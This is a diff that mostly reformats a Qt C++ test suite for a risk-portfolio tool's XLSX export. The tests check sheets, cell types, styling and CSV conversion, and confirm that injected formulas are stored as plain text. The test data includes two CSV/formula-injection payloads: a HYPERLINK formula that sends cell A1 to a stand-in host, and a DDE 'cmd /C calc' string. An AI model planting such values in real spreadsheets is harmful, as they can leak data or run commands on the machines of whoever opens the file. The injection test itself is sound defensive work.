@@ -44,9 +44,12 @@ public:
         QString current;
         while (!strings.atEnd()) {
             strings.readNext();
-            if (strings.isStartElement() && strings.name() == QLatin1String("si")) current.clear();
-            else if (strings.isStartElement() && strings.name() == QLatin1String("t")) current += strings.readElementText();
-            else if (strings.isEndElement() && strings.name() == QLatin1String("si")) m_strings << current;
+            if (strings.isStartElement() && strings.name() == QLatin1String("si"))
+                current.clear();
+            else if (strings.isStartElement() && strings.name() == QLatin1String("t"))
+                current += strings.readElementText();
+            else if (strings.isEndElement() && strings.name() == QLatin1String("si"))
+                m_strings << current;
         }
         QXmlStreamReader styles(part(QStringLiteral("xl/styles.xml")));
         QString section;
@@ -54,17 +57,22 @@ public:
             styles.readNext();
             if (!styles.isStartElement()) continue;
             const auto a = styles.attributes();
-            if (styles.name() == QLatin1String("numFmt")) m_numFmts.insert(a.value("numFmtId").toInt(), a.value("formatCode").toString());
-            else if (styles.name() == QLatin1String("cellXfs") || styles.name() == QLatin1String("fills")) section = styles.name().toString();
+            if (styles.name() == QLatin1String("numFmt"))
+                m_numFmts.insert(a.value("numFmtId").toInt(), a.value("formatCode").toString());
+            else if (styles.name() == QLatin1String("cellXfs") || styles.name() == QLatin1String("fills"))
+                section = styles.name().toString();
             else if (styles.name() == QLatin1String("xf") && section == QLatin1String("cellXfs"))
                 m_xfs << qMakePair(a.value("numFmtId").toInt(), a.value("fillId").toInt());
-            else if (styles.name() == QLatin1String("fill")) m_fills << QString();
-            else if (styles.name() == QLatin1String("fgColor") && section == QLatin1String("fills")) m_fills.last() = a.value("rgb").toString();
+            else if (styles.name() == QLatin1String("fill"))
+                m_fills << QString();
+            else if (styles.name() == QLatin1String("fgColor") && section == QLatin1String("fills"))
+                m_fills.last() = a.value("rgb").toString();
         }
         QXmlStreamReader book(part(QStringLiteral("xl/workbook.xml")));
         while (!book.atEnd()) {
             book.readNext();
-            if (book.isStartElement() && book.name() == QLatin1String("sheet")) m_sheetNames << book.attributes().value("name").toString();
+            if (book.isStartElement() && book.name() == QLatin1String("sheet"))
+                m_sheetNames << book.attributes().value("name").toString();
         }
     }
 
@@ -118,7 +126,10 @@ int columnOf(const QMap<QPair<int, int>, Cell> &cells, const QString &header)
     return -1;
 }
 
-QString argb(const QColor &c) { return QStringLiteral("FF%1").arg(c.rgb() & 0xffffff, 6, 16, QLatin1Char('0')).toUpper(); }
+QString argb(const QColor &c)
+{
+    return QStringLiteral("FF%1").arg(c.rgb() & 0xffffff, 6, 16, QLatin1Char('0')).toUpper();
+}
 
 const QString kPayload = QStringLiteral("=HYPERLINK(\"http://x.example/?\"&A1,\"click\")");
 const QString kOwner = QStringLiteral("+cmd|' /C calc'!A0");
@@ -131,7 +142,8 @@ class TestXlsxWorkbook : public QObject {
 private slots:
     void initTestCase()
     {
-        QVERIFY2(!QStandardPaths::findExecutable(QStringLiteral("unzip")).isEmpty(), "unzip is missing: run scripts/setup.sh");
+        QVERIFY2(!QStandardPaths::findExecutable(QStringLiteral("unzip")).isEmpty(),
+                 "unzip is missing: run scripts/setup.sh");
         m_portfolio = loadPortfolio();
         rb::model::Risk r;
         r.id = QStringLiteral("R-INJECT");
@@ -157,8 +169,10 @@ private slots:
     void sheets()
     {
         const Xlsx x(m_path);
-        QCOMPARE(x.sheetNames(), (QStringList{"Risks", "Inherent matrix", "Residual matrix", "Latest assessments", "Posts", "Method"}));
-        for (int i = 0; i < 6; ++i) QVERIFY2(!x.sheetXml(i).contains("<f>") && !x.sheetXml(i).contains("<f "), "a formula in the workbook");
+        QCOMPARE(x.sheetNames(),
+                 (QStringList{"Risks", "Inherent matrix", "Residual matrix", "Latest assessments", "Posts", "Method"}));
+        for (int i = 0; i < 6; ++i)
+            QVERIFY2(!x.sheetXml(i).contains("<f>") && !x.sheetXml(i).contains("<f "), "a formula in the workbook");
     }
 
     void risksAreTypedAndFormulasAreText()
@@ -167,7 +181,8 @@ private slots:
         const auto cells = x.cells(0);
         const int title = columnOf(cells, QStringLiteral("Title")), owner = columnOf(cells, QStringLiteral("Owner"));
         const int probability = columnOf(cells, QStringLiteral("Inherent probability"));
-        const int exposure = columnOf(cells, QStringLiteral("Inherent exposure")), review = columnOf(cells, QStringLiteral("Next review"));
+        const int exposure = columnOf(cells, QStringLiteral("Inherent exposure")),
+                  review = columnOf(cells, QStringLiteral("Next review"));
         QVERIFY(title >= 0 && owner >= 0 && probability >= 0 && exposure >= 0 && review >= 0);
         const int row = int(m_portfolio.risks.size()); // the last risk, below the header
         QCOMPARE(cells.value({row, 0}).value, QStringLiteral("R-INJECT"));
@@ -196,12 +211,15 @@ private slots:
         const Xlsx x(m_path);
         for (int sheet : {0, 3, 4}) {
             const QByteArray xml = x.sheetXml(sheet);
-            QVERIFY2(QRegularExpression(QStringLiteral("<pane ySplit=\"1\"[^>]*state=\"frozen\"")).match(QString::fromUtf8(xml)).hasMatch(),
+            QVERIFY2(QRegularExpression(QStringLiteral("<pane ySplit=\"1\"[^>]*state=\"frozen\""))
+                         .match(QString::fromUtf8(xml))
+                         .hasMatch(),
                      qPrintable(x.sheetNames()[sheet]));
             QVERIFY2(xml.contains("<autoFilter ref=\"A1:"), qPrintable(x.sheetNames()[sheet]));
             QVERIFY(xml.contains("<col ")); // widths set
         }
-        QVERIFY(x.sheetXml(0).contains(QStringLiteral("<autoFilter ref=\"A1:W%1\"/>").arg(m_portfolio.risks.size() + 1).toUtf8()));
+        QVERIFY(x.sheetXml(0).contains(
+            QStringLiteral("<autoFilter ref=\"A1:W%1\"/>").arg(m_portfolio.risks.size() + 1).toUtf8()));
         for (int sheet : {1, 2, 5}) // the matrices and the method are not tables: nothing frozen
             QVERIFY2(!x.sheetXml(sheet).contains("state=\"frozen\""), qPrintable(x.sheetNames()[sheet]));
     }
@@ -214,7 +232,8 @@ private slots:
         const auto cells = x.cells(1);
         int expected[6][6] = {};
         for (const auto &r : m_portfolio.risks)
-            if (r.status != rb::model::RiskStatus::Closed && r.probability && r.impact) ++expected[*r.probability][*r.impact];
+            if (r.status != rb::model::RiskStatus::Closed && r.probability && r.impact)
+                ++expected[*r.probability][*r.impact];
         for (int p = 1; p <= 5; ++p)
             for (int i = 1; i <= 5; ++i) {
                 const Cell c = cells.value({4 + (5 - p), i});
@@ -237,7 +256,8 @@ private slots:
         for (auto it = cells.cbegin(); it != cells.cend(); ++it) last = std::max(last, it.key().first);
         QCOMPARE(last, rows);
         const int post = columnOf(cells, QStringLiteral("Post")), score = columnOf(cells, QStringLiteral("Score"));
-        const int factor = columnOf(cells, QStringLiteral("Success factor")), date = columnOf(cells, QStringLiteral("Date"));
+        const int factor = columnOf(cells, QStringLiteral("Success factor")),
+                  date = columnOf(cells, QStringLiteral("Date"));
         QVERIFY(post >= 0 && score >= 0 && factor >= 0 && date >= 0);
         const auto *a = m_portfolio.latestAssessment(cells.value({1, post}).value);
         QVERIFY(a && !a->scores.isEmpty());
@@ -246,7 +266,8 @@ private slots:
         QCOMPARE(x.fillColour(cells.value({1, score}).style), argb(rb::palette::score(s)));
         QCOMPARE(cells.value({1, date}).value.toInt(), QDate(1899, 12, 30).daysTo(a->date));
         for (const auto &f : m_portfolio.successFactors)
-            if (f.id == a->scores.first().first) QCOMPARE(cells.value({1, factor}).value, f.nameEn.isEmpty() ? f.nameNl : f.nameEn);
+            if (f.id == a->scores.first().first)
+                QCOMPARE(cells.value({1, factor}).value, f.nameEn.isEmpty() ? f.nameNl : f.nameEn);
     }
 
     // Posts: a row each, dates and budgets typed; a critical post has no float, a post with float is not
@@ -255,8 +276,10 @@ private slots:
     {
         const Xlsx x(m_path);
         const auto cells = x.cells(4);
-        const int floatCol = columnOf(cells, QStringLiteral("Total float (days)")), critical = columnOf(cells, QStringLiteral("Critical"));
-        const int start = columnOf(cells, QStringLiteral("Start")), invest = columnOf(cells, QStringLiteral("One-off planned (k€)"));
+        const int floatCol = columnOf(cells, QStringLiteral("Total float (days)")),
+                  critical = columnOf(cells, QStringLiteral("Critical"));
+        const int start = columnOf(cells, QStringLiteral("Start")),
+                  invest = columnOf(cells, QStringLiteral("One-off planned (k€)"));
         QVERIFY(floatCol >= 0 && critical >= 0 && start >= 0 && invest >= 0);
         int criticalPosts = 0;
         for (int r = 1; r <= m_portfolio.posts.size(); ++r) {
@@ -283,13 +306,15 @@ private slots:
         QTemporaryDir out;
         QProcess riskboard;
         const QString dutch = out.filePath(QStringLiteral("nl.xlsx"));
-        riskboard.start(QStringLiteral(RISKBOARD_BINARY_DIR "/riskboard"), {QStringLiteral("export-xlsx"), portfolioPath(), QStringLiteral("-o"), dutch,
-                                                            QStringLiteral("--lang"), QStringLiteral("nl")});
+        riskboard.start(QStringLiteral(RISKBOARD_BINARY_DIR "/riskboard"),
+                        {QStringLiteral("export-xlsx"), portfolioPath(), QStringLiteral("-o"), dutch,
+                         QStringLiteral("--lang"), QStringLiteral("nl")});
         QVERIFY(riskboard.waitForFinished(60000));
         QCOMPARE(riskboard.exitCode(), 0);
         QProcess lo;
         lo.start(QStringLiteral("timeout"),
-                 {QStringLiteral("120"), soffice, QStringLiteral("-env:UserInstallation=file://%1/profile").arg(out.path()),
+                 {QStringLiteral("120"), soffice,
+                  QStringLiteral("-env:UserInstallation=file://%1/profile").arg(out.path()),
                   QStringLiteral("--headless"), QStringLiteral("--convert-to"),
                   // ';' (59) between fields, '"' (34) quotes, UTF-8 (76), every sheet (-1) to its own file
                   QStringLiteral("csv:Text - txt - csv (StarCalc):59,34,76,1,,0,false,true,false,false,false,-1"),
@@ -298,7 +323,8 @@ private slots:
         QVERIFY2(lo.exitCode() == 0, lo.readAllStandardError().constData());
         const QString risks = QString::fromUtf8(readAll(out.filePath(QStringLiteral("mab-Risks.csv"))));
         QVERIFY2(risks.startsWith(QLatin1String("Risk;Title;Level;")), qPrintable(risks.left(200)));
-        QVERIFY(risks.contains(QStringLiteral("R-INJECT;\"=HYPERLINK(\"\"http://x.example/?\"\"&A1,\"\"click\"\")\";Programme")));
+        QVERIFY(risks.contains(
+            QStringLiteral("R-INJECT;\"=HYPERLINK(\"\"http://x.example/?\"\"&A1,\"\"click\"\")\";Programme")));
         QVERIFY(risks.contains(QStringLiteral("2019-03-01"))); // the date, formatted as a date
         const QString posts = QString::fromUtf8(readAll(out.filePath(QStringLiteral("mab-Posts.csv"))));
         const QString firstPost = m_portfolio.posts.first().id;
@@ -306,7 +332,8 @@ private slots:
         // The Dutch risk sheet (its file is named after the sheet's Dutch name): the risk form's words.
         bool dutchRisks = false;
         for (const QString &file : QDir(out.path()).entryList({QStringLiteral("nl-*.csv")}))
-            dutchRisks |= QString::fromUtf8(readAll(out.filePath(file))).startsWith(QLatin1String("Risico;Titel;Niveau;Posten;Succesfactor;"));
+            dutchRisks |= QString::fromUtf8(readAll(out.filePath(file)))
+                              .startsWith(QLatin1String("Risico;Titel;Niveau;Posten;Succesfactor;"));
         QVERIFY(dutchRisks);
     }
 
@@ -318,12 +345,14 @@ private slots:
         const QString out = dir.filePath(QStringLiteral("out.xlsx"));
         auto run = [](const QStringList &args) {
             QProcess p;
-            p.start(QStringLiteral(RISKBOARD_BINARY_DIR "/riskboard"), QStringList{QStringLiteral("export-xlsx")} + args);
+            p.start(QStringLiteral(RISKBOARD_BINARY_DIR "/riskboard"),
+                    QStringList{QStringLiteral("export-xlsx")} + args);
             p.waitForFinished(60000);
             return qMakePair(p.exitCode(), QString::fromUtf8(p.readAllStandardError()));
         };
         QCOMPARE(run({portfolioPath()}).first, 1);
-        QCOMPARE(run({portfolioPath(), QStringLiteral("-o"), out, QStringLiteral("--lang"), QStringLiteral("fr")}).first, 1);
+        QCOMPARE(
+            run({portfolioPath(), QStringLiteral("-o"), out, QStringLiteral("--lang"), QStringLiteral("fr")}).first, 1);
         QVERIFY(!QFile::exists(out));
         QFile old(out);
         QVERIFY(old.open(QIODevice::WriteOnly));
@@ -332,11 +361,13 @@ private slots:
         const QString bad = dir.filePath(QStringLiteral("bad.json"));
         QFile f(bad);
         QVERIFY(f.open(QIODevice::WriteOnly));
-        f.write("{\n  \"schemaVersion\": 1,\n  \"programme\": {\"name\": \"x\"},\n  \"posts\": [{\"id\": \"A\", \"title\": \"a\", \"theme\": 9, \"kind\": \"project\"}]\n}\n");
+        f.write("{\n  \"schemaVersion\": 1,\n  \"programme\": {\"name\": \"x\"},\n  \"posts\": [{\"id\": \"A\", "
+                "\"title\": \"a\", \"theme\": 9, \"kind\": \"project\"}]\n}\n");
         f.close();
         const auto invalid = run({bad, QStringLiteral("-o"), out});
         QCOMPARE(invalid.first, 2);
-        QVERIFY2(QRegularExpression(QStringLiteral("bad\\.json:\\d+:\\d+: error:")).match(invalid.second).hasMatch(), qPrintable(invalid.second));
+        QVERIFY2(QRegularExpression(QStringLiteral("bad\\.json:\\d+:\\d+: error:")).match(invalid.second).hasMatch(),
+                 qPrintable(invalid.second));
         QCOMPARE(readAll(out), QByteArray("old"));
         QCOMPARE(run({portfolioPath(), QStringLiteral("-o"), QStringLiteral("/nonexistent-dir/out.xlsx")}).first, 3);
         QCOMPARE(run({portfolioPath(), QStringLiteral("-o"), out}).first, 0);
